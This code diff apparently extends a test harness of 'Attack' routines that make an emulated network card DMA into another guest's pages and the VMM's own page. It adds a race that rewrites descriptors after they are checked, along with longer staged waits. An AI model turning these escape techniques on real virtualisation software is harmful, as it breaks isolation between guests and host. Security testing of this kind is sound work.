@@ -18,8 +18,10 @@ import {
 /** Rings of descriptors begin at multiples of 256; these lie in the guest's own pages, behind a buffer. */
 const RING_OFFSET = 0x1000;
 const RECEIVE_RING_OFFSET = 0x1100;
-/** 1 ms at 1.8 GHz. */
-const A_WHILE = 1_800_000;
+const RECEIVED_BYTES = 0x800;
+/** 1 ms at 1.8 GHz, in pieces shorter than a frame and the next are on the wire: the card comes to each descriptor at its own time. */
+const PAUSES = 60;
+const PAUSE = 30_000;
 
 /** Turns C+ mode on, and both of its halves. */
 export function* startCPlus(): DriverOp<void> {
@@ -35,7 +37,10 @@ export function* layDescriptors(board: BoardSetup, pieces: readonly Piece[]): Dr
   yield* outl(PORT.TSAD1, 0);
 }
 
-/** Has the card send what a descriptor points at, receive to where one points, and take its descriptors from another's page. A way each round. */
+/** In the machine's first page, which is the VMM's. */
+const VMM_ADDRESS = 0x800;
+
+/** Has the card send what a descriptor points at, receive to where one points, both at another's page and the VMM's, and take its descriptors from another's page. A way each round. */
 export const cPlus: Attack = function* (board, state, round) {
   const foreign = foreignAddress(board);
   yield* restart(board);
@@ -43,14 +48,13 @@ export const cPlus: Attack = function* (board, state, round) {
   yield* outl(PORT.RCR, TAKE_ALL);
   yield* startCPlus();
   const own: Piece = {buffer: ownBuffer(board), length: REACH};
-  if (round % 3 === 0) {
-    yield* layDescriptors(board, [own, {buffer: foreign, length: REACH}]);
+  const way = round % 5;
+  const buffer = way < 3 ? foreign : VMM_ADDRESS;
+  if (way === 0 || way === 3) {
+    yield* layDescriptors(board, [own, {buffer, length: REACH}]);
     yield* poll();
-  } else if (round % 3 === 1) {
-    const start = ownBuffer(board) + RECEIVE_RING_OFFSET;
-    yield* store(start, ownedRing([{buffer: foreign, length: 0x800, flags: 0}]));
-    yield* outl(PORT.RDSARLO, start);
-    yield* outl(PORT.RDSARHI, 0);
+  } else if (way === 1 || way === 4) {
+    yield* giveBuffer(board, buffer);
     yield* outb(PORT.CR, CR.RE | CR.TE);
     yield* layDescriptors(board, [{...own, length: yield* storeRequest(board)}]);
     yield* poll();
@@ -64,8 +68,46 @@ export const cPlus: Attack = function* (board, state, round) {
 
 function* poll(): DriverOp<void> {
   yield* outb(PORT.TPPOLL, TPPOLL.NPQ);
-  yield* delay(A_WHILE);
+  yield* wait();
 }
+
+function* wait(): DriverOp<void> {
+  for (let pause = 0; pause < PAUSES; pause++) yield* delay(PAUSE);
+}
+
+/** Lays a ring of one descriptor, with one buffer to receive. */
+function* giveBuffer(board: BoardSetup, buffer: number): DriverOp<void> {
+  const start = ownBuffer(board) + RECEIVE_RING_OFFSET;
+  yield* store(start, receiveRing(buffer));
+  yield* outl(PORT.RDSARLO, start);
+  yield* outl(PORT.RDSARHI, 0);
+}
+
+function receiveRing(buffer: number): Uint8Array {
+  return ownedRing([{buffer, length: RECEIVED_BYTES, flags: 0}]);
+}
+
+/**
+ * Has descriptors checked that point at its own buffers, and points them elsewhere before the card comes to them: stores alone, which nobody
+ * sees. Of those to send the second, while the first is on the wire; every other round the one to receive.
+ */
+export const cPlusRewrite: Attack = function* (board, state, round) {
+  const foreign = foreignAddress(board);
+  const request: Piece = {buffer: ownBuffer(board), length: yield* storeRequest(board)};
+  const stolen: Piece = {...request, buffer: foreign};
+  yield* restart(board);
+  yield* outl(PORT.RCR, TAKE_ALL);
+  yield* startCPlus();
+  yield* giveBuffer(board, ownBuffer(board) + RING_OFFSET + RECEIVED_BYTES);
+  const isSending = round % 2 === 0;
+  yield* layDescriptors(board, isSending ? [request, request] : [request]);
+  yield* outb(PORT.CR, CR.RE | CR.TE);
+  if (!isSending) yield* store(ownBuffer(board) + RECEIVE_RING_OFFSET, receiveRing(foreign));
+  yield* outb(PORT.TPPOLL, TPPOLL.NPQ);
+  if (isSending) yield* store(ownBuffer(board) + RING_OFFSET, ownedRing([request, stolen]));
+  yield* wait();
+  return yield* restarted(board, state);
+};
 
 /** Has the card write its counters, 64 bytes, over another's page. */
 export const tally: Attack = function* (board, state) {
@@ -73,7 +115,7 @@ export const tally: Attack = function* (board, state) {
   yield* startCPlus();
   yield* outl(PORT.TSD1, 0);
   yield* outl(PORT.TSD0, foreignAddress(board) | DTCCR.CMD);
-  yield* delay(A_WHILE);
+  yield* wait();
   return yield* restarted(board, state);
 };
 
@@ -85,7 +127,7 @@ export const halfFrame: Attack = function* (board, state) {
   yield* startCPlus();
   yield* layDescriptors(board, [{...own, length: 1, flags: LS}]);
   yield* poll();
-  yield* layDescriptors(board, [{...own, flags: FS}]);
+  yield* store(ownBuffer(board) + RING_OFFSET, ownedRing([{...own, flags: FS}]));
   yield* outb(PORT.CR, CR.RE | CR.TE);
   yield* poll();
   return yield* restarted(board, state);
